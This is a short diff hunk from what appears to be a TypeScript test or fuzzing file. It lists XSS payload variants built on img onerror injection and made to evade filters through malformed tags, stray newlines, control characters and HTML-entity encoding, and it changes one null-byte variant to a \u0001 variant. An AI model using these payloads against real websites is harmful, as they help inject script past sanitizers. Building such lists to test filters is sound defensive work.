@@ -67,7 +67,7 @@ const disguises: Make[] = [
   (run) => `<<img src=x onerror=${run}>>`,
   (run) => `<img src=x:x onerror\n=\n${run}>`,
   (run) => `<img src='x' onerror='${run}' alt='`,
-  (run) => `<img src=x onerror=\u0000${run}>`,
+  (run) => `<img src=x onerror=\u0001${run}>`,
   (run) => `<img src=x onerror=${run}//`,
   (run) => `&lt;img src=x onerror=${run}&gt;`,
   (run) => `&#60;img src=x onerror=${run}&#62;`,
